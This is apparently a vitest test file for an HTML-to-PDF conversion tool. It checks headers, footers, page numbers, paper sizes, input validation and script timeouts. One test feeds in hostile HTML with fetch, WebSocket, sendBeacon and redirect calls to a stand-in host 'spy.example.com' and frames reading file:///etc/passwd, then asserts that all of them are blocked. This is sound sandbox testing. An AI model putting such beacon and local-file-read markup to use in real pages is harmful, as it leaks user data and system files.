/** @module-tag long */
import { extractText, getDocumentProxy } from 'unpdf'
import { expect, test } from 'vitest'
import type { Host } from '../../../../base/core/capability.ts'
import { internet } from '../../../../../test/support/internet.ts'
import { createBrowsers } from '../../../../outside/net/browser.ts'
import { callContext } from '../../../../../test/support/call-context.ts'
import { runExample } from '../../../../../test/support/run-tool.ts'
import htmlToPdf from './html-to-pdf.ts'

async function textIn({ base64 }: Record<string, unknown>): Promise<readonly string[]> {
  const bytes = new Uint8Array(Buffer.from(String(base64), 'base64'))
  return (await extractText(await getDocumentProxy(bytes))).text
}

test('header, footer and page numbers are on each page, as text', async () => {
  const input = {
    html: '<p>One</p><p style="break-before: page">Two</p>',
    header: 'Harbour <b>line</b> & more',
    footer: 'Kept for ten years',
    pageNumbers: true,
  }
  const answer = await runExample(htmlToPdf, input)
  expect(answer).toMatchObject({ pages: 2, contentType: 'application/pdf' })
  expect(answer).not.toHaveProperty('source')
  const [first, second] = await textIn(answer)
  expect(first).toContain('One')
  expect(second).toContain('Two')
  for (const [at, text] of [first, second].entries()) {
    expect(text).toContain('Harbour <b>line</b> & more')
    expect(text).toContain('Kept for ten years')
    expect(text).toContain(`${at + 1} / 2`)
  }
})

test('paper and margin are as requested', async () => {
  const sizes = async (input: object) => {
    const answer = await runExample(htmlToPdf, { html: 'x', ...input })
    const bytes = new Uint8Array(Buffer.from(String(answer['base64']), 'base64'))
    const { view } = await (await getDocumentProxy(bytes)).getPage(1)
    return view.slice(2).map(Math.round)
  }
  // The browser rounds up to its own pixels.
  expect(await sizes({ format: 'A5' })).toEqual([420, 596])
  expect(await sizes({ format: 'Letter', landscape: true })).toEqual([792, 612])
})

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

test('the page has no network access, and data: pictures are shown', async () => {
  const { sites } = await internet()
  const seen: (string | undefined)[] = []
  sites.set('spy.example.com', (request, response) => {
    seen.push(request.url)
    response.end('document.title = "spied"')
  })
  const html = `<link rel="stylesheet" href="https://spy.example.com/a.css">
    <script src="http://spy.example.com/b.js"></script>
    <img src="https://spy.example.com/c.png"><iframe src="https://spy.example.com/d"></iframe>
    <img id="own" src="data:image/png;base64,${PIXEL}"><object data="file:///etc/passwd"></object>
    <iframe src="file:///etc/hostname"></iframe><p id="out">quiet</p>
    <script>
      const tell = (what) => document.getElementById('out').append(' ' + what)
      fetch('https://spy.example.com/e').then(() => tell('fetched'), () => tell('refused'))
      try { new WebSocket('ws://spy.example.com/f').onopen = () => tell('socket') } catch {}
      navigator.sendBeacon('https://spy.example.com/g', 'x')
      tell('own ' + document.getElementById('own').naturalWidth)
      setTimeout(() => { location.href = 'https://spy.example.com/h' }, 1)
    </script>`
  const answer = await runExample(htmlToPdf, { html }).catch((thrown: unknown) => thrown)
  expect(seen).toEqual([])
  // A page that redirects itself to nowhere is refused; its earlier content is not printed.
  expect(answer).toMatchObject({ code: 'bad_input', message: expect.stringMatching(/^html: /) })
  const stays = await runExample(htmlToPdf, { html: html.replace(/setTimeout.*\n/, '') })
  expect((await textIn(stays)).join(' ')).toMatch(/quiet own 1 refused/)
  expect(seen).toEqual([])
})

test.each([
  [{ html: '' }, /^html: /],
  [{ html: 'x', format: 'A3' }, /^format: /],
  [{ html: 'x', marginMm: 51 }, /^marginMm: /],
  [{ html: 'x', header: 'x'.repeat(501) }, /^header: /],
])('%j is refused', async (input, message) => {
  await expect(runExample(htmlToPdf, input)).rejects.toMatchObject({
    code: 'bad_input',
    message: expect.stringMatching(message) as string,
  })
})

test('a script that never ends is a fault of the HTML', async () => {
  const closing: (() => Promise<void>)[] = []
  const onClose = (close: () => Promise<void>) => void closing.push(close)
  const host = { setting: () => undefined, onClose } as unknown as Host
  const { reachable } = await internet()
  const printer = createBrowsers(reachable, { visitMs: 2_000 }).printer.open(host)(callContext())
  const options = { paper: 'A4', landscape: false } as const
  await expect(
    printer.print('<script>while (true) {}</script>', options, 'html'),
  ).rejects.toMatchObject({
    code: 'bad_input',
    message: expect.stringMatching(/^html: cannot be printed/) as string,
  })
  for (const close of closing) await close()
})
